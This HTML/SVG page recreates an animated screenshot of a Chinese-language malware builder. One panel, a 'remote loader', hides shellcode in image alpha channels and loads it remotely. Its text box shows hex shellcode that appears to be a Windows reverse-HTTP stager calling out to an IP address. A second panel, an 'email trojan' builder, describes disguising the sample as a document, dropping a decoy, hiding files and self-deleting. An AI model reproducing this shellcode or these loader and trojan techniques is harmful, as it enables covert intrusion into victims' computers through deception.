
Animation, 639 px wide and 394 px high, one loop 8 s. Source, as an HTML page:

```html
<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
  svg { display: block; }
  text { font: 7.84px "Liberation Sans", "Noto Sans CJK SC", "Noto Sans CJK", sans-serif; fill: #555; text-rendering: geometricPrecision; white-space: pre; }
  .title { font-size: 10.08px; fill: #484848; }
  .hint { fill: #8c8c8c; }
  .label { fill: #fff; font-weight: 500; }
  .status { font: 7.5px "Open Sans", "Noto Sans CJK SC", "Noto Sans CJK", sans-serif; fill: #d8d8d8; }
  .box { fill: #fff; stroke: #a4a4a4; }
</style>
</head>
<body>
<svg width="639" height="394" viewBox="0 0 639 394">
  <defs>
    <clipPath id="view"><rect x="0" y="51.5" width="319" height="67"/></clipPath>
  </defs>
  <rect width="639" height="394" fill="#fff"/>
  <rect width="639" height="6.3" fill="#313135"/>
  <path d="M638.5 6V394M0 393.5H639" stroke="#b4b4b4"/>

  <text class="title" x="-1" y="20.8">HexbriskLoad(远程加载器)</text>
  <text x="-.6" y="36.9">实现过程： 隐藏Shellcode字符串到图片中，把字符串拆成字节，写入每个像素的alpha通道中</text>
  <text x="-.6" y="48.1">上传到澜砚云bvn域名下进行位移读取shellcode进行远程动态加载。</text>

  <rect class="box" x="-.5" y="51" width="330" height="68.5" rx="1"/>
  <g clip-path="url(#view)"><g id="code"></g></g>
  <rect x="319.5" y="51.5" width="9.5" height="57" fill="#f1f1f1"/>
  <rect x="319.5" y="108.5" width="9.5" height="10.5" fill="#dcdcdc"/>
  <rect id="thumb" x="320" width="8.5" height="9.5" fill="#c1c1c1"/>
  <path d="M322 58.2L324.2 55.8L326.4 58.2ZM322 102L324.2 104.4L326.4 102Z" fill="#505050"/>
  <path d="M322.5 117.5L328 112M325.5 117.5L328 115" stroke="#8a8a8a" stroke-width=".7"/>
  <path id="caret" d="M-1.6 -4.5H1.6M0 -4.5V4.5M-1.6 4.5H1.6" fill="none" stroke-width=".8"/>

  <rect x="-.5" y="122.5" width="30" height="19" rx="2.5" fill="#c9c9c9"/>
  <rect x=".3" y="123.4" width="28" height="17" rx="1.8" fill="#449d44" stroke="#1d2a1d" stroke-width="1.3"/>
  <text class="label" x="6.4" y="134.9">生成</text>

  <text class="title" x="-1" y="156.8">Trojan(邮件马)</text>
  <text x="-.6" y="171.9">实现过程： 将样本自身图标伪装成图片或文档，运行样本之后释放资源中的相应的DOC文档以及加载器并设置隐藏文件属性</text>
  <text x="-.6" y="183.1">然后配合HexbriskLoad生成的可执行文件依次打开用于社工掩护的vond文档迷惑目标，程序判断运行完毕并删除自身。</text>
  <rect class="box" x="-.5" y="186" width="330" height="68.5" rx="1"/>
  <text class="hint" x="1" y="195">请输入十六进制Shellcode~</text>
  <path d="M323 253L328 248M326 253L328 251" stroke="#8a8a8a" stroke-width=".7"/>

  <rect x="-.5" y="257.5" width="30" height="19" rx="2" fill="#5cb85c"/>
  <text class="label" x="6.4" y="269.9">生成</text>
  <text x="31.5" y="269">In development...</text>

  <path d="M0 381.5H262Q264 381.5 264 383.5V393.5H0Z" fill="#323235"/>
  <text class="status" x="2" y="390.6">正在等待 127.0.0.1 的响应...</text>
</svg>
<script>
const LOOP = 8000, PITCH = 11.2, MAX_SCROLL = 166;

// The blank row never scrolls into view.
const rows = `fce8890000006089e531d2648b52308b520c8b52148b72280fb74a2631ff31c0ac3c617c022
c20c1cf0d01c7e2f052578b52108b423c01d08b407885c0744a01d0508b48188b582001d3e
33c498b348b01d631ff31c0acc1cf0d01c738e075f4037df83b7d2475e2588b582401d3668b
0c4b8b581c01d38b048b01d0894424245b5b61595a51ffe0585f5a8b12eb865d686e657400
6877696e6954684c772607ffd5e80000000031ff5757575757683a5679a7ffd5e9a40000005
b31c951516a03515168bb01000053506857899fc6ffd550e98c0000005b31d252680032c08
452525253525068eb552e3bffd589c683c350688033000089e06a04506a1f566875469e86ff
d55f31ff57576aff5356682d06187bffd585c00f84ca01000031ff85f6740489f9eb0968aac5e25
dffd589c16845215e31ffd531ff576a0751565068b757e00bffd5bf002f000039c775075850e9
7bffffff31ffe991010000e9c9010000e86ffffff2f366d4574001e428e801ad81c2ec511de5bbc9
4fdd8797268ed7684419d9a0fc0babf2b84d365a74a8cc6b04f7ab44498ebcd1101ac6e244
cd28d5f8840b78af8bc65a4d1da24229d409d84738200557365722d4167656e743a204d6f

4b79db727b0c164b7cf0e08d1e50f784478be913407da3e351108c697c8e6d0e4c75b1ddac
33f5d1d8f31389abcbd7e6bb3cef4997a3005113bd0de59987f729d7ad38a366cf27de21490
aa69bd173d1c6381974d71454f5a70a911a72ba6e4a7f1cec8a6108604d03c7854382691e6
c16c8d66020a21c69397a7bf13f5013288b586fb46e82390cefe4081084a0a81acf3051bcf64
d99068febd9e1b0d7936ecc7f4b8e0cb68cb7190b69a361353ab47d5b300068f0b5a256ffd5
6a4068001000006800004000576858a453e5ffd593b90000000001d9515389e7576800200
0000535668129689e2ffd585c074c68b0701c385c075e558c3e889fdffff3139322e302e322e3
1353720200012345678`.split("\n");

const $ = id => document.getElementById(id);
const code = $("code"), thumb = $("thumb"), caret = $("caret");

rows.forEach((row, i) => {
  const line = document.createElementNS("http://www.w3.org/2000/svg", "text");
  line.setAttribute("x", 1);
  line.setAttribute("y", 60.3 + i * PITCH);
  line.textContent = row;
  code.append(line);
});

const steps = [
  { at: 0, scroll: MAX_SCROLL, x: 81, color: "#8d8d8d" },
  { at: 120, scroll: MAX_SCROLL, x: 87, color: "#d6cf45" },
  { at: 2460, scroll: 150, x: 87, color: "#8d8d8d" },
  { at: 2610, scroll: 61, x: 87, color: "#8d8d8d" },
  { at: 3160, scroll: 26, x: 87, color: "#8d8d8d" },
  { at: 3280, scroll: 0, x: 87, color: "#8d8d8d" },
];

function draw(now) {
  const t = now % LOOP;
  const { scroll, x, color } = steps.findLast(step => step.at <= t);
  code.setAttribute("transform", `translate(0 ${-scroll})`);
  thumb.setAttribute("y", 61.5 + 27 * scroll / MAX_SCROLL);
  caret.setAttribute("transform", `translate(${x} 96.5)`);
  caret.setAttribute("stroke", color);
}

const start = performance.now();
function tick() {
  draw(performance.now() - start);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
